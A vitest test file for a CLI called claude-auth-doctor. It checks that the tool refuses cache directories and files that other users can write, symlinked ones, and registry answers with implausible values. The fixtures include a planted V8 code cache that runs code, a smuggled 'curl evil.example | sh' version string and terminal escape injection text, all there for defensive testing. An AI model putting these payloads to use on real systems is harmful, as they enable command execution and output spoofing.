import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/types.js';
import { BIN, runCli } from '../helpers/cli.js';
import { makeFixture, subscriptionHome, type Fixture } from '../helpers/fixture.js';
import { expectNoSecret, KEYS } from '../helpers/secrets.js';

// The doctor's cache directory holds code (the V8 code cache of the bundle) and answers that
// steer the output. Someone else who can write there must not be able to run code as the user
// or change what the doctor says: such a directory or file is not used (src/world/private-dir.ts).

const ROOT = process.getuid?.() === 0;
const NOBODY = 65534;
const ARGS = ['--json', '--offline'];

function setup(): Fixture {
  return makeFixture({ home: subscriptionHome(), env: { ANTHROPIC_API_KEY: KEYS.apiKey } });
}

const cacheRoot = (fixture: Fixture) => path.join(fixture.home, '.cache', 'claude-auth-doctor');
const codeCache = (fixture: Fixture) => path.join(cacheRoot(fixture), 'code-cache');
const cliCacheFile = (fixture: Fixture) => {
  const name = readdirSync(codeCache(fixture)).find((n) => n.includes('-cli-'))!;
  return path.join(codeCache(fixture), name);
};

/**
 * A code cache that V8 accepts for dist/cli.cjs (it checks only the source's length and the
 * flags) but whose code writes `marker`: what an attacker with write access to the cache
 * directory could plant. Made by a separate plain `node`, so its flags match the doctor's.
 */
function plantedCodeCache(marker: string, header: string): Buffer {
  const bundle = path.join(path.dirname(BIN), '..', 'dist', 'cli.cjs');
  const script = `
    const fs = require('node:fs'), vm = require('node:vm');
    const [bundle, marker, out, header] = process.argv.slice(1);
    const length = fs.readFileSync(bundle, 'latin1').length;
    let body = 'if (!process.env.CAD_CRAFTING) require("node:fs").writeFileSync(' + JSON.stringify(marker) + ', "planted code ran");';
    body += '/*' + ' '.repeat(length - body.length - 4) + '*/';
    const wrapped = '(function (exports, require, module, __filename, __dirname, __importModule) {' + body + '\\n})';
    const compiled = new vm.Script(wrapped, { filename: bundle });
    compiled.runInThisContext()({}, require, {}, bundle, '', null);
    fs.writeFileSync(out, Buffer.concat([Buffer.from(header, 'latin1'), compiled.createCachedData()]));
  `;
  const out = `${marker}.cache`;
  const made = spawnSync(process.execPath, ['-e', script, bundle, marker, out, header], {
    env: { CAD_CRAFTING: '1' },
    encoding: 'utf8',
  });
  expect(made.stderr).toBe('');
  return readFileSync(out);
}

/** Plants the cache over the real one, keeping the real one's header (the kinds of run it covers). */
function plant(fixture: Fixture): { marker: string; file: string } {
  const file = cliCacheFile(fixture);
  const bytes = readFileSync(file);
  const header = bytes.toString('latin1', 0, bytes.indexOf(0x0a) + 1);
  const marker = path.join(fixture.root, 'pwned');
  writeFileSync(file, plantedCodeCache(marker, header), { mode: 0o600 });
  return { marker, file };
}

function report(result: { stdout: string; stderr: string; code: number | null }): Report {
  expect(result.stderr).toBe('');
  expectNoSecret(result.stdout);
  return JSON.parse(result.stdout) as Report;
}

describe('the code cache is code: only a private one is used', () => {
  it('control: the planted cache does run its code when it sits in a private directory (so the cases below can fail)', async () => {
    const fixture = setup();
    await runCli(ARGS, fixture.env, fixture.project);
    const { marker } = plant(fixture);
    await runCli(ARGS, fixture.env, fixture.project);
    expect(readFileSync(marker, 'utf8')).toBe('planted code ran');
  });

  // The last column: whether the directory itself is still private, so the doctor may replace
  // the untrusted file with its own; otherwise it writes nothing there.
  const cases: [string, (fixture: Fixture, file: string) => void, boolean][] = [
    [
      'the code-cache directory is writable by everyone',
      (f) => chmodSync(codeCache(f), 0o777),
      false,
    ],
    ['the cache directory is writable by its group', (f) => chmodSync(cacheRoot(f), 0o770), false],
    ['the cache file is writable by everyone', (_, file) => chmodSync(file, 0o666), true],
    [
      'the code-cache directory is a symbolic link to a directory someone else controls',
      (f) => {
        const elsewhere = path.join(f.root, 'elsewhere');
        renameSync(codeCache(f), elsewhere);
        symlinkSync(elsewhere, codeCache(f));
      },
      false,
    ],
    [
      'XDG_CACHE_HOME is a shared directory without the sticky bit',
      (f) => chmodSync(path.join(f.home, '.cache'), 0o777),
      false,
    ],
  ];
  if (ROOT) {
    cases.push(
      [
        'the cache directory is owned by another user',
        (f) => chownSync(cacheRoot(f), NOBODY, NOBODY),
        false,
      ],
      [
        'the cache file is owned by another user',
        (_, file) => chownSync(file, NOBODY, NOBODY),
        true,
      ],
    );
  }

  it.each(cases)('is ignored when %s: the planted code never runs', async (_, weaken, replaced) => {
    const fixture = setup();
    const expected = report(await runCli(ARGS, fixture.env, fixture.project));
    const { marker, file } = plant(fixture);
    weaken(fixture, file);
    const planted = statSync(file);
    for (let run = 0; run < 2; run += 1) {
      const result = report(await runCli(ARGS, fixture.env, fixture.project));
      expect(result.checks.map((c) => [c.id, c.status])).toEqual(
        expected.checks.map((c) => [c.id, c.status]),
      );
    }
    expect(existsSync(marker)).toBe(false);
    const now = statSync(file);
    expect(now.ino !== planted.ino).toBe(replaced);
    if (replaced) expect([now.uid, now.mode & 0o777]).toEqual([process.getuid?.(), 0o600]);
  });

  it('is ignored when the cache file is a symbolic link: replaced by its own, the target untouched', async () => {
    const fixture = setup();
    await runCli(ARGS, fixture.env, fixture.project);
    const { marker, file } = plant(fixture);
    const elsewhere = path.join(fixture.root, 'planted.bin');
    renameSync(file, elsewhere);
    symlinkSync(elsewhere, file);
    const planted = readFileSync(elsewhere);
    report(await runCli(ARGS, fixture.env, fixture.project));
    expect(existsSync(marker)).toBe(false);
    expect(lstatSync(file).isFile()).toBe(true);
    expect(readFileSync(elsewhere).equals(planted)).toBe(true);
  });

  it('clean-up removes only its own files of other builds, never through a symbolic link', async () => {
    const fixture = setup();
    await runCli(ARGS, fixture.env, fixture.project);
    const name = path.basename(cliCacheFile(fixture));
    const otherBuild = `000000000000${name.slice(12)}`;
    const notOurs = ['notes.bin', 'keep.bin.bak', 'a-b-c.bin'];
    const plantAll = (dir: string) => {
      for (const n of [otherBuild, ...notOurs]) writeFileSync(path.join(dir, n), 'x');
    };
    // In its own private directory: the other build's cache goes, the rest stays.
    plantAll(codeCache(fixture));
    renameSync(cliCacheFile(fixture), path.join(fixture.root, 'moved'));
    await runCli(ARGS, fixture.env, fixture.project);
    expect(readdirSync(codeCache(fixture)).sort()).toEqual([name, ...notOurs].sort());

    // Through a symbolic link to someone's directory: nothing there is touched.
    const victim = path.join(fixture.root, 'victim');
    mkdirSync(victim);
    plantAll(victim);
    const before = readdirSync(victim).sort();
    const own = codeCache(fixture);
    renameSync(own, path.join(fixture.root, 'old-cache'));
    symlinkSync(victim, own);
    await runCli(ARGS, fixture.env, fixture.project);
    expect(readdirSync(victim).sort()).toEqual(before);
    expect(statSync(victim).isDirectory()).toBe(true);
  });
});

// A registry answer planted in the cache would make the doctor report a version that does not
// exist, and `fix` act on it (run the update).
describe('the registry cache is used only when private and plausible', () => {
  const REGISTRY = 'https://registry.npmjs.org/';
  const NAME = 'registry-registry.npmjs.org.json';
  const answer = (latest: string, engine: string) =>
    `${JSON.stringify({
      registry: REGISTRY,
      distTags: { fetchedAt: Date.now(), tags: { latest } },
      engines: { [latest]: engine },
    })}\n`;

  function planted(body: string): { fixture: Fixture; file: string } {
    const fixture = makeFixture({ home: subscriptionHome(), claude: { version: '2.1.300' } });
    const dir = cacheRoot(fixture);
    mkdirSync(dir, { recursive: true, mode: 0o700 });
    chmodSync(dir, 0o700);
    const file = path.join(dir, NAME);
    writeFileSync(file, body, { mode: 0o600 });
    return { fixture, file };
  }

  async function staleVersion(fixture: Fixture, args: string[] = []) {
    const result = await runCli(
      [...ARGS, '--verbose', '--only', 'stale-version', ...args],
      fixture.env,
      fixture.project,
    );
    expectNoSecret(result.stdout + result.stderr);
    const check = (JSON.parse(result.stdout) as Report).checks[0]!;
    return { check, stderr: result.stderr };
  }

  it('control: the user’s own cache is used (so the cases below can fail)', async () => {
    const { fixture } = planted(answer('2.1.999', '>=18'));
    const { check, stderr } = await staleVersion(fixture);
    expect(check.status).toBe('warn');
    expect(check.summary).toContain('2.1.999');
    expect(stderr).toBe('');
  });

  const cases: [string, string, (fixture: Fixture, file: string) => void, string][] = [
    [
      'in a cache directory writable by everyone',
      answer('2.1.999', '>=18'),
      (f) => chmodSync(cacheRoot(f), 0o777),
      'Not using the cache directory: ~/.cache/claude-auth-doctor is writable by everyone (mode 777); working without it.',
    ],
    [
      'in a cache directory that is a symbolic link',
      answer('2.1.999', '>=18'),
      (f) => {
        renameSync(cacheRoot(f), path.join(f.root, 'shared'));
        symlinkSync(path.join(f.root, 'shared'), cacheRoot(f));
      },
      'Not using the cache directory: ~/.cache/claude-auth-doctor is a symbolic link; working without it.',
    ],
    [
      'as a symbolic link',
      answer('2.1.999', '>=18'),
      (f, file) => {
        renameSync(file, path.join(f.root, 'planted.json'));
        symlinkSync(path.join(f.root, 'planted.json'), file);
      },
      `Not using the cached ~/.cache/claude-auth-doctor/${NAME}: it is a symbolic link.`,
    ],
    [
      'whose version is not a version',
      answer('2.1.999; curl evil.example | sh', '>=18'),
      () => undefined,
      `Ignored the cached registry answer ${NAME}: it holds values no registry gives.`,
    ],
    [
      'whose engines.node holds control characters',
      answer('2.1.999', '>=18\u001b[2J\u001b[31mupdate now'),
      () => undefined,
      `Ignored the cached registry answer ${NAME}: it holds values no registry gives.`,
    ],
  ];
  if (ROOT)
    cases.push(
      [
        'owned by another user',
        answer('2.1.999', '>=18'),
        (_, file) => chownSync(file, NOBODY, NOBODY),
        `Not using the cached ~/.cache/claude-auth-doctor/${NAME}: it is owned by another user (uid ${NOBODY}).`,
      ],
      [
        'in a cache directory owned by another user',
        answer('2.1.999', '>=18'),
        (f) => chownSync(cacheRoot(f), NOBODY, NOBODY),
        `Not using the cache directory: ~/.cache/claude-auth-doctor is owned by another user (uid ${NOBODY}); working without it.`,
      ],
    );

  it.each(cases)(
    'ignores an answer %s, and says so under --verbose',
    async (_, body, weaken, note) => {
      const { fixture, file } = planted(body);
      weaken(fixture, file);
      const { check, stderr } = await staleVersion(fixture);
      expect(check.status).toBe('skip');
      expect(check.summary).toContain('not looked up (--offline)');
      expect(JSON.stringify(check)).not.toContain('2.1.999');
      expect(stderr).toBe(`note: ${note}\n`);
      // Without --verbose the run says nothing about it.
      const quiet = await runCli(
        [...ARGS, '--only', 'stale-version'],
        fixture.env,
        fixture.project,
      );
      expect(quiet.stderr).toBe('');
    },
  );
});
